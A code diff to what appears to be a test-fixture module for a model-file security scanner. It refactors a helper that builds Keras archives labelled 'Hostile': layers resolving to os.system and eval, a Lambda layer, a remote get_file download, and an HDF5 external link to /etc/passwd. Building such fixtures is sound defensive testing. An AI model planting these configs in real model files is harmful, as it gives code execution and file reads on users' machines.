@@ -32,18 +32,19 @@ def papers(marker: str) -> list[Hostile]:
     ]
 
 
-def _keras() -> list[Hostile]:
-    def keras(layer: dict[str, object], **more: bytes) -> bytes:
-        config = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
-        return zipped(
-            {
-                "config.json": json.dumps(config).encode(),
-                "metadata.json": b"{}",
-                "model.weights.h5": b"\x89HDF\r\n\x1a\n",
-                **more,
-            }
-        )
+def _keras_archive(layer: dict[str, object], **more: bytes) -> bytes:
+    config = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
+    return zipped(
+        {
+            "config.json": json.dumps(config).encode(),
+            "metadata.json": b"{}",
+            "model.weights.h5": b"\x89HDF\r\n\x1a\n",
+            **more,
+        }
+    )
 
+
+def _keras() -> list[Hostile]:
     lamb: dict[str, object] = {
         "class_name": "Lambda",
         "module": "keras.layers",
@@ -60,21 +61,23 @@ def _keras() -> list[Hostile]:
     with h5py.File(outside, "w") as book:
         book.create_dataset("w", (4,), dtype="u1", external=[("/etc/passwd", 0, 4)])
     return [
-        Hostile("lambda.keras", keras(lamb)),
-        Hostile("module.keras", keras({"module": "os", "class_name": "system", "config": {}})),
-        Hostile("function.keras", keras({"module": "builtins", "class_name": "function", "config": "eval"})),
+        Hostile("lambda.keras", _keras_archive(lamb)),
+        Hostile("module.keras", _keras_archive({"module": "os", "class_name": "system", "config": {}})),
+        Hostile("function.keras", _keras_archive({"module": "builtins", "class_name": "function", "config": "eval"})),
         Hostile(
             "get-file.keras",
-            keras({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://192.0.2.1/x"}}),
+            _keras_archive(
+                {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://192.0.2.1/x"}}
+            ),
         ),
         Hostile(
             "custom.keras",
-            keras({"module": "acme.layers", "class_name": "Own", "registered_name": "acme>Own", "config": {}}),
+            _keras_archive({"module": "acme.layers", "class_name": "Own", "registered_name": "acme>Own", "config": {}}),
             REVIEW,
         ),
         Hostile(
             "nested.keras",
-            keras(
+            _keras_archive(
                 {
                     "class_name": "Dense",
                     "module": "keras.layers",
@@ -84,7 +87,7 @@ def _keras() -> list[Hostile]:
         ),
         Hostile(
             "build-config.keras",
-            keras(
+            _keras_archive(
                 {
                     "class_name": "Dense",
                     "module": "keras.layers",
